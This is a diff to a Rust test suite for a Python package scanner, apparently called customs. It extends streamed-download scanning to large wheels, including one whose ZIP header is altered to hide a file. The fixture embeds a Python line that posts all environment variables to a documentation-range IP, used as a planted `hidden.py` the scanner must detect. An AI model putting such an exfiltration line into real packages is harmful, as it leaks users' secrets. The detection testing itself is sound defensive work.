@@ -1257,16 +1257,18 @@ fn a_wheel_streams_in_and_one_whose_headers_lie_is_read_whole() {
     assert_eq!(server.hits(&file("lyingext")), 2, "read again whole");
 }
 
-/// An sdist is scanned as it downloads, in one request; one whose scan
-/// needs a second read (setup.py runs another file) is downloaded again
-/// and read whole; one whose bytes are not the index's is never judged.
+/// An archive above 4 MiB is scanned as it downloads, in one request; an
+/// sdist whose scan needs a second read (setup.py runs another file) and a
+/// wheel whose local headers disagree with its directory are downloaded
+/// again and read as before; bytes that are not the index's are never
+/// judged.
 #[test]
-fn an_sdist_is_scanned_as_it_downloads_and_read_whole_when_it_must_be() {
+fn large_archives_are_scanned_as_they_download_and_read_again_when_they_must_be() {
     let server = crate::server::Server::start();
     let tmp = tempfile::tempdir().unwrap();
     // Inert: the address is a documentation range and nothing here runs.
     let post = b"import os, requests\nrequests.post('http://192.0.2.7/c', json=dict(os.environ))\n";
-    let blob = noise(3 << 20);
+    let blob = noise(5 << 20);
     let plain = crate::common::targz_bytes(&[
         (
             "plainsd-1.0/setup.py",
@@ -1290,6 +1292,36 @@ fn an_sdist_is_scanned_as_it_downloads_and_read_whole_when_it_must_be() {
             project,
             &[(&format!("{project}-1.0.tar.gz"), bytes.clone())],
         );
+        lines.push_str(&format!("{project}==1.0\n"));
+    }
+    for (project, lie) in [("bigwheel", false), ("lyingwheel", true)] {
+        let name = format!("{project}-1.0-cp312-cp312-manylinux_2_17_x86_64.whl");
+        let w = wheel(
+            tmp.path(),
+            &name,
+            &[
+                (&format!("{project}/_ext.so"), &blob[..]),
+                (&format!("{project}/hidden.py"), post),
+                (
+                    &format!("{project}-1.0.dist-info/WHEEL"),
+                    b"Wheel-Version: 1.0\nRoot-Is-Purelib: false\n",
+                ),
+            ],
+        );
+        let mut bytes = std::fs::read(&w).unwrap();
+        if lie {
+            // The local header's name only: `hidden.py` becomes `hidden.so`.
+            let at = bytes
+                .windows(4)
+                .enumerate()
+                .filter(|(_, w)| *w == b"PK\x03\x04")
+                .map(|(i, _)| i)
+                .find(|i| bytes[i + 30..].starts_with(format!("{project}/hidden.py").as_bytes()))
+                .unwrap();
+            let dot = at + 30 + project.len() + "/hidden.".len();
+            bytes[dot..dot + 2].copy_from_slice(b"so");
+        }
+        serve_files(&server, project, &[(&name, bytes)]);
         lines.push_str(&format!("{project}==1.0\n"));
     }
     // The index announces other bytes than it serves.
@@ -1319,6 +1351,8 @@ fn an_sdist_is_scanned_as_it_downloads_and_read_whole_when_it_must_be() {
         "{report}"
     );
     assert!(found("runsd", "runsd-1.0/README.txt"), "{report}");
+    assert!(found("bigwheel", "bigwheel/hidden.py"), "{report}");
+    assert!(found("lyingwheel", "lyingwheel/hidden.py"), "{report}");
     let scan = |project: &str| {
         report["packages"]
             .as_array()
@@ -1330,12 +1364,19 @@ fn an_sdist_is_scanned_as_it_downloads_and_read_whole_when_it_must_be() {
     };
     assert_eq!(scan("plainsd")["status"], "scanned", "{report}");
     assert_eq!(scan("runsd")["status"], "scanned", "{report}");
+    assert_eq!(scan("bigwheel")["status"], "scanned", "{report}");
+    assert_eq!(scan("lyingwheel")["status"], "scanned", "{report}");
     assert_eq!(server.hits("/files/plainsd-1.0.tar.gz"), 1);
     assert_eq!(
         server.hits("/files/runsd-1.0.tar.gz"),
         2,
         "read again whole"
     );
+    let file = |p: &str| format!("/files/{p}-1.0-cp312-cp312-manylinux_2_17_x86_64.whl");
+    assert_eq!(server.hits(&file("bigwheel")), 1);
+    // As it streamed, then keeping what the scan reads (`hidden.py` is
+    // small enough to be kept whole as any member's head).
+    assert_eq!(server.hits(&file("lyingwheel")), 2);
     // The liar's bytes are the plain sdist's: what the scan of them found
     // is not reported, the mismatch is.
     assert!(
@@ -1352,4 +1393,79 @@ fn an_sdist_is_scanned_as_it_downloads_and_read_whole_when_it_must_be() {
 
 fn run_audit(dir: &Path, server: &crate::server::Server) -> (i32, String, String) {
     run(audit_json(dir, &server.index_url()).arg(dir.join("requirements.txt")))
+}
+
+/// Every archive under `CUSTOMS_AGREE_DIR` (recursively) read once as it
+/// streams in, a few KiB at a time, finds what the read of the whole file
+/// finds, or says it must be read whole. Not run by default (it reads real
+/// archives: the eval sets, a bench's downloads):
+///
+///     CUSTOMS_AGREE_DIR=/path cargo test --release --test it streamed_reads_agree -- --ignored --nocapture
+#[test]
+#[ignore = "reads real archives from CUSTOMS_AGREE_DIR"]
+fn streamed_reads_agree_with_whole_reads() {
+    use customs::scan::{Limits, archive::Once, scan_bytes, scan_stream};
+    let Ok(dir) = std::env::var("CUSTOMS_AGREE_DIR") else {
+        eprintln!("skipped: CUSTOMS_AGREE_DIR is not set");
+        return;
+    };
+    let mut files = Vec::new();
+    let mut dirs = vec![PathBuf::from(dir)];
+    while let Some(d) = dirs.pop() {
+        for e in std::fs::read_dir(&d).unwrap().flatten() {
+            let p = e.path();
+            if p.is_dir() {
+                dirs.push(p);
+            } else {
+                files.push(p);
+            }
+        }
+    }
+    files.sort();
+    let limits = Limits::default();
+    let (mut same, mut whole, mut differ) = (0, 0, Vec::new());
+    for path in &files {
+        let bytes = std::fs::read(path).unwrap();
+        let name = path.file_name().unwrap().to_string_lossy().into_owned();
+        let Ok(expected) = scan_bytes(&name, &bytes, &limits) else {
+            continue;
+        };
+        let reader = std::io::Cursor::new(bytes.clone());
+        let once = Once::new(Box::new(Trickle(reader)), bytes.len() as u64);
+        match scan_stream(&name, &once, &limits).unwrap() {
+            None => whole += 1,
+            Some(got) => {
+                let key = |s: &customs::scan::ArchiveScan| {
+                    let mut v: Vec<String> = s
+                        .findings
+                        .iter()
+                        .map(|(m, f)| format!("{m:?} {:?} {:?} {:?}", f.rule, f.severity, f.line))
+                        .collect();
+                    v.sort();
+                    (v, s.gaps.clone(), s.members)
+                };
+                if key(&got) == key(&expected) {
+                    same += 1;
+                } else {
+                    differ.push(name);
+                }
+            }
+        }
+    }
+    eprintln!(
+        "{} archives: {same} read once alike, {whole} to read whole, {} differ",
+        files.len(),
+        differ.len()
+    );
+    assert!(differ.is_empty(), "{differ:?}");
+}
+
+/// A reader that gives at most 16 KiB at a time, as a network does.
+struct Trickle<R>(R);
+
+impl<R: std::io::Read> std::io::Read for Trickle<R> {
+    fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
+        let n = buf.len().min(16 * 1024);
+        self.0.read(&mut buf[..n])
+    }
 }
